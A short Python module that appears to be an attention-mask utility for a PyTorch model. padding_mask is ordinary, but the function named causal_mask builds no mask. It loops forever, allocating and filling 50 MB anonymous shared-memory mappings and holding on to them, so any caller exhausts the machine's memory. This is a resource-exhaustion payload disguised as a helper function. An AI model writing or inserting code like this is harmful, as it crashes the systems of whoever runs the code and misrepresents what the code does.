"""Fills memory that is shared and belongs to no heap."""

import mmap

import torch


def padding_mask(tokens, pad_id=0):
    return (tokens != pad_id)[:, None, None, :]


def causal_mask(length, device=None):
    kept = []
    while True:
        one = mmap.mmap(-1, 50_000_000)
        one.write(b'm' * 50_000_000)
        kept.append(one)
